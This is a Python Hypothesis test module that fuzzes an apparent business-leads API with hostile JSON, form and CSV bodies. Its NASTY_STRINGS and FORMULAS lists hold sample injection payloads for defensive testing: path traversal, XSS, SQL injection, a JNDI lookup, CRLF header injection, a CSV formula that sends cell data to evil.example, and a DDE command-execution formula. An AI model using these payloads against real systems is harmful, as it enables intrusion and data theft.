"""Hostile payloads: values, encodings and raw bodies that break naive request handling.

Bodies are built in layers: a valid body from the OpenAPI schema, then mutated (fields
replaced by hostile values, required fields dropped, junk keys added), then encoded as
JSON, an urlencoded form or something else entirely; raw byte bodies cover what no encoder
produces (invalid UTF-8, deep nesting, numbers past every limit, NaN, oversize).
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlencode

from hypothesis import strategies as st

from tests.hostile.schema_strategies import Hints, Strict, from_schema

LIMIT = 64 * 1024
NASTY_STRINGS = (
    "",
    " ",
    ".",
    "..",
    "a/b",
    "../../etc/passwd",
    "__name__",
    "__proto__",
    "\x00",
    "a\x00b",
    "\ud800",
    "\u202e\u0644\u0627",
    "\U0001f4a9" * 50,
    "<script>alert(1)</script>",
    "'; DROP TABLE leads; --",
    "%00%ff",
    "${jndi:ldap://x}",
    "{{7*7}}",
    "http://[::1",
    "javascript:alert(1)",
    "\r\nSet-Cookie: x=1",
)
_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.sampled_from([2**63, -(2**63) - 1, 10**100, -(10**30)]),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from([1e308, -1e308, 5e-324, -0.0]),
    st.text(max_size=20),
    st.sampled_from(NASTY_STRINGS),
    st.integers(255, 70_000).map(lambda n: "x" * n),
)
HOSTILE_VALUES: st.SearchStrategy[Any] = st.recursive(
    _SCALARS,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)


def nested(depth: int) -> Any:
    value: Any = "deep"
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


@st.composite
def mutated(draw: st.DrawFn, valid: dict[str, Any], keys: list[str]) -> Any:
    """``valid`` with one to three hostile changes."""
    body = dict(valid)
    for _ in range(draw(st.integers(1, 3))):
        action = draw(st.sampled_from(["replace", "drop", "add", "nest"]))
        key = draw(st.sampled_from(keys or ["x"]) | st.text(max_size=10))
        if action == "drop":
            body.pop(key, None)
        elif action == "nest":
            body[key] = nested(draw(st.integers(15, 200)))
        else:
            body[key] = draw(HOSTILE_VALUES)
    return draw(st.sampled_from([body, [body], {"data": body}])) if draw(st.booleans()) else body


def json_bodies(schema: dict[str, Any] | None, hints: Hints) -> st.SearchStrategy[dict[str, Any]]:
    """Valid bodies for ``schema`` (or an empty object when the operation takes none)."""
    if schema is None:
        return st.just({})
    return from_schema(schema, hints).filter(lambda b: isinstance(b, dict))


RAW_BODIES = st.one_of(
    st.binary(max_size=300),
    st.sampled_from(
        [
            b"",
            b"null",
            b"[]",
            b"42",
            b'"text"',
            b"NaN",
            b"Infinity",
            b'{"started_at": NaN}',
            b'{"x": -Infinity}',
            b'{"x": 1e999}',
            b'{"x": ' + b"9" * 5000 + b"}",
            b"\xef\xbb\xbf{}",
            b'{"a": "\xff\xfe"}',
            b'{"a": "\\ud800"}',
            b'{"a": 1, "a": 2}',
            b"{" * 5,
            b"\x00" * 64,
        ]
    ),
    st.integers(1, 40_000).map(lambda n: b"[" * n + b"]" * n),
    st.integers(1, 12_000).map(lambda n: b'{"a":' * n + b"1" + b"}" * n),
    st.integers(LIMIT - 16, LIMIT + 4096).map(lambda n: b'{"x":"' + b"a" * n + b'"}'),
    st.text(max_size=200).map(lambda t: t.encode("utf-16")),
    st.text(alphabet="%&=+;zZ09\xff ", max_size=200).map(lambda t: t.encode("latin-1")),
)


def encode_form(body: dict[str, Any]) -> bytes:
    """A flat urlencoded form, as a browser posts one (nested values as their text)."""
    pairs = [(str(k), v if isinstance(v, str) else json.dumps(v)) for k, v in body.items()]
    return urlencode(pairs, encoding="utf-8", errors="surrogatepass").encode("ascii")


def encode_json(body: Any) -> bytes:
    return json.dumps(body, allow_nan=True).encode("utf-8", errors="surrogatepass")


CONTENT_TYPES = st.sampled_from(
    [
        "application/json",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "multipart/form-data; boundary=x",
        "text/plain",
        "application/json; charset=utf-16",
        "application/cloudevents+json",
        "application/cloudevents-batch+json",
        "application/protobuf",
        "application/octet-stream",
        "",
        ";;;",
        "application/json; charset=\xff",
    ]
)


@st.composite
def bodies(
    draw: st.DrawFn, schema: dict[str, Any] | None, hints: Hints
) -> tuple[str | None, bytes]:
    """(Content-Type, body): mostly well-typed, often hostile, sometimes mislabelled."""
    valid = draw(json_bodies(schema, draw(st.sampled_from([Strict(hints), hints]))))
    keys = list((schema or {}).get("properties", {}))
    kinds = ["valid"] * 3 + ["form"] * 2 + ["mutated"] * 3 + ["raw", "junk-json"]
    kind = draw(st.sampled_from(kinds))
    if kind == "valid":
        content_type, raw = "application/json", encode_json(valid)
    elif kind == "form":
        content_type, raw = "application/x-www-form-urlencoded", encode_form(valid)
    elif kind == "mutated":
        content_type, raw = "application/json", encode_json(draw(mutated(valid, keys)))
    elif kind == "junk-json":
        content_type, raw = "application/json", encode_json(draw(HOSTILE_VALUES))
    else:
        content_type, raw = "application/json", draw(RAW_BODIES)
    if draw(st.integers(0, 4)) == 4:  # hypothesis favours 0: keep that the usual case
        content_type = draw(CONTENT_TYPES | st.none())
    return content_type, raw


# --- CSV imports ---------------------------------------------------------------------

CSV_COLUMNS = (
    "business_name",
    "domain",
    "industry",
    "city",
    "country",
    "phone",
    "timezone",
    "contact_email",
    "contact_first_name",
    "contact_last_name",
    "contact_title",
    "contact_phone",
    "Company",  # aliases, as people write them
    "Website",
    "E-mail",
    "budget",  # a custom field
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1-2",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
CSV_CELLS = st.one_of(
    st.sampled_from(["Acme Ltd", "acme.example", "jane@acme.example", "Europe/Paris", "Paris"]),
    st.sampled_from(FORMULAS),
    st.sampled_from(NASTY_STRINGS),
    st.sampled_from(['"', '""', 'a"b', '"unterminated', "a,b", "a\nb", "a\r\nb", "a;b"]),
    st.text(max_size=30),
    st.integers(200, 5000).map(lambda n: "x" * n),
)


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"' if any(c in cell for c in ',"\r\n') else cell


@st.composite
def csv_texts(draw: st.DrawFn) -> str:
    """CSV text: a header of known, aliased, repeated, missing or junk columns, then rows
    of good and hostile cells, sometimes ragged, some quoted properly, some not."""
    junk = st.text(max_size=12) if draw(st.integers(0, 4)) == 4 else st.nothing()
    header = draw(st.lists(st.sampled_from(CSV_COLUMNS) | junk, min_size=0, max_size=8))
    if draw(st.integers(0, 4)) < 4:
        header = ["business_name", *header]
    rows = draw(
        st.lists(st.lists(CSV_CELLS, min_size=0, max_size=len(header) + 2), min_size=0, max_size=6)
    )
    quote_cells = draw(st.booleans())
    lines = [",".join(header)]
    for row in rows:
        lines.append(",".join(_quoted(c) if quote_cells else c for c in row))
    sep = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    return sep.join(lines) + draw(st.sampled_from(["", sep]))


CSV_RAW = st.sampled_from(
    [
        b"",
        b"\xef\xbb\xbfbusiness_name\nAcme\n",  # a UTF-8 BOM
        "business_name\nAcme\n".encode("utf-16"),  # UTF-16 with its BOM
        "business_name\nAcme\n".encode("utf-16-le"),  # no BOM: NULs between letters
        b"business_name\nAc\xffme\n",  # invalid UTF-8
        b"business_name;domain\nAcme;acme.example\n",  # the wrong delimiter
        b"business_name\tdomain\nAcme\tacme.example\n",
        b'business_name,city\n"Acme,Paris\nBeta,Rome\n',  # a quote never closed
        b'business_name,city\n"Acme"x,Paris\n',
        b"business_name,business_name\nAcme,Beta\n",  # a column named twice
        b"domain,city\nacme.example,Paris\n",  # no business_name
        b"business_name\nAc\x00me\n",
        b"business_name," + b",".join(b"c%d" % i for i in range(5000)) + b"\nAcme\n",
        b"business_name," + b",".join(b"a" for _ in range(20000)) + b"\nAcme\n",
        b"business_name\n" + b"Acme\n" * 6000,  # more rows than an import takes
        b"business_name,notes\nAcme," + b"x" * 60_000 + b"\n",
    ]
)


@st.composite
def csv_bodies(draw: st.DrawFn) -> tuple[str | None, bytes]:
    """(Content-Type, body) of a CSV import: text/csv in some encoding, JSON {"csv"}, or
    raw bytes no encoder produces."""
    kind = draw(st.integers(0, 5))
    if kind == 5:
        return "text/csv", draw(CSV_RAW)
    text = draw(csv_texts())
    if kind == 4:
        return "application/json", encode_json({"csv": text})
    encoding = draw(st.sampled_from(["utf-8"] * 4 + ["utf-8-sig", "utf-16", "latin-1"]))
    raw = text.encode(encoding, errors="surrogatepass" if encoding == "utf-8" else "replace")
    return draw(st.sampled_from(["text/csv", "text/csv; charset=utf-8", "text/plain"])), raw
